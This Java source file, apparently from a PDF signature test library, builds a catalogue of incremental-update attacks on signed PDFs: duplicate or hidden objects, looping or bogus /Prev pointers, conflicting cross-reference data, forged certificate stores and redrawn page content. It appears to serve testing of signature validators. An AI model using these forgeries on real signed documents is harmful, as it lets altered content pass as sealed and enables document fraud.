package org.yinxin.testlibrary.attacks;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Attacks with what PDF readers read in different ways: objects, cross-references, object streams.
 */
public final class ObjectTricks {
  private static final String OBJECTS = "Objects and cross-references";

  private ObjectTricks() {}

  /** All of them. */
  public static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    add(
        all,
        "an object twice in one update, the first listed",
        s -> {
          Increment to = SignatureForgeries.forged(s);
          String copy = to.of.contents + " 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n";
          return to.raw(copy).table();
        });
    add(
        all,
        "an object listed that lies within a stream",
        s -> {
          Increment to = new Increment(s.one().file());
          String inner = to.of.contents + " 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n";
          int at = to.position();
          int carrier = to.stream("", ("    " + inner).getBytes(StandardCharsets.US_ASCII));
          int offset = Syntax.latin(to.bytes()).indexOf("    " + inner, at) + 4;
          to.row(carrier, "0000000000 00000 f \n");
          return to.row(to.of.contents, "%010d 00000 n \n".formatted(offset)).table();
        });
    add(
        all,
        "an object listed that lies in a comment",
        s -> {
          Increment to = new Increment(s.one().file());
          to.raw("% ");
          int offset = to.position();
          to.raw(to.of.contents + " 0 obj <</Length 0>> endobj\n");
          return to.row(to.of.contents, "%010d 00000 n \n".formatted(offset)).table();
        });
    add(
        all,
        "an object under generation 1",
        s -> {
          Increment to = new Increment(s.one().file());
          return to.object(to.of.contents, 1, "<</Length 0>>stream\n\nendstream").table();
        });
    add(
        all,
        "an object in a stream of objects that takes the place of another",
        s -> {
          Increment to = new Increment(s.one().file());
          String body = Increment.with(to.of.pageBody, "Rotate", "180");
          String first = to.of.page + " 0 ";
          int stream =
              to.stream(
                  "/Type/ObjStm/N 1/First " + first.length(),
                  (first + body).getBytes(StandardCharsets.ISO_8859_1));
          return to.place(to.of.page, 2, stream, 0).crossReferenceStream();
        });
    add(
        all,
        "a hybrid file: table and /XRefStm disagree",
        s -> {
          Increment first = SignatureForgeries.forged(s);
          byte[] hidden = first.crossReferenceStream();
          String start = Integer.toString(Syntax.startxref(hidden));
          Increment to = new Increment(hidden);
          return to.trailer("/XRefStm " + start)
              .prev(Integer.toString(new Syntax(s.one().file()).startxref))
              .table();
        });
    add(all, "/Prev that points to itself", s -> prev(s, "self"));
    add(all, "/Prev that leads in a circle", s -> prev(s, "circle"));
    add(all, "/Prev negative", s -> prev(s, "-1"));
    add(all, "/Prev beyond the file", s -> prev(s, "2147483647"));
    add(all, "/Prev that leaves the sealed revision out", s -> prev(s, ""));
    add(all, "startxref 0", s -> SignatureForgeries.forged(s).raw("startxref\n0\n%%EOF\n").bytes());
    add(
        all,
        "startxref into a stream",
        s -> SignatureForgeries.forged(s).raw("startxref\n3000\n%%EOF\n").bytes());
    add(
        all,
        "two keys /Root in the trailer",
        s -> {
          Increment to = SignatureForgeries.forged(s);
          int other = to.object(to.of.catalogBody);
          return to.trailer("/Root " + other + " 0 R").table();
        });
    add(
        all,
        "the trailer encrypts",
        s -> SignatureForgeries.forged(s).trailer("/Encrypt<</Filter/Standard/V 1>>").table());
    add(
        all,
        "a row of the table that is too long",
        s -> {
          Increment to = SignatureForgeries.forged(s);
          return to.row(to.of.contents, "000000000000000000001 00000 n \n").table();
        });
    add(all, "a name with escapes for a key", s -> redrawnUnder("/Con#74ents ", s));
    add(all, "a key twice in the page", s -> redrawnUnder("/Contents ", s));
    add(
        all,
        "a first page for fast viewing, forged",
        s -> {
          Increment to = SignatureForgeries.forged(s);
          return to.object(to.reserve(), "<</Linearized 1/L 1/O " + to.of.page + "/N 1/T 0>>")
              .table();
        });
    add(
        all,
        "a store of certificates that is the page's resources",
        s -> {
          Increment to = new Increment(s.one().file());
          int resources =
              Integer.parseInt(to.of.pageBody.replaceFirst(".*?/Resources (\\d+) 0 R.*", "$1"));
          to.object(resources, "<</Type/DSS>>");
          return to.object(to.of.root, Increment.with(to.of.catalogBody, "DSS", resources + " 0 R"))
              .table();
        });
    add(
        all,
        "a time-stamp's empty drawing that a later store fills",
        s -> {
          byte[] stamped = s.authority().stamp(s.one().file());
          String added = Syntax.latin(stamped).substring(s.one().file().length);
          int empty = Integer.parseInt(added.replaceFirst("(?s).*/N (\\d+) 0 R.*", "$1"));
          Increment to = new Increment(stamped);
          to.stream(empty, "", to.of.redrawn());
          String store = "<</Type/DSS/Certs[" + empty + " 0 R]>>";
          return to.object(to.of.root, Increment.with(to.of.catalogBody, "DSS", store)).table();
        });
    add(
        all,
        "a store of certificates whose /Size leaves the page out",
        s -> store(s).size(new Syntax(s.one().file()).page).table());
    add(
        all,
        "the same with a cross-reference stream",
        s -> store(s).size(new Syntax(s.one().file()).page).crossReferenceStream());
    add(
        all,
        "a store of certificates whose /Size leaves its own objects out",
        s -> store(s).size(new Syntax(s.one().file()).size).table());
    add(
        all,
        "objects that nothing refers to, for a later attack",
        s -> {
          Increment to = new Increment(s.one().file());
          to.stream("", to.of.redrawn());
          return to.object(to.of.root, to.of.catalogBody).table();
        });
    return all;
  }

  /** Adds a document security store, which keeps a seal checkable for long and draws nothing. */
  public static Increment store(Target target) throws Exception {
    Increment to = new Increment(target.one().file());
    int certificate = to.stream("", target.authority().certificate.getEncoded());
    String store = "<</Type/DSS/Certs[" + certificate + " 0 R]>>";
    return to.object(to.of.root, Increment.with(to.of.catalogBody, "DSS", store));
  }

  private static void add(List<Attack> all, String name, Attack.Forgery forgery) {
    all.add(new Attack(OBJECTS, name, forgery));
  }

  private static byte[] prev(Target target, String to) throws Exception {
    Increment update = SignatureForgeries.forged(target);
    return switch (to) {
      case "self" -> update.prev(Integer.toString(update.position())).table();
      case "circle" -> {
        byte[] once = update.prev("%010d".formatted(update.position() + 400)).table();
        // The first leads to the second, the second to the first.
        yield new Increment(target.one().file()).prev("%d".formatted(once.length)).table();
      }
      case "" -> {
        byte[] file = update.table();
        String text = Syntax.latin(file);
        yield text.replaceFirst("/Prev \\d+(?=[^/]*>>\\s*startxref\\s*\\d+\\s*%%EOF\\s*$)", "")
            .getBytes(StandardCharsets.ISO_8859_1);
      }
      default -> update.prev(to).table();
    };
  }

  /** The page with one more key at its end, which names another drawing. */
  private static byte[] redrawnUnder(String key, Target target) throws Exception {
    Increment to = new Increment(target.one().file());
    int drawing = to.stream("", to.of.redrawn());
    String body = to.of.pageBody;
    return to.object(to.of.page, body.substring(0, body.length() - 2) + key + drawing + " 0 R>>")
        .table();
  }
}
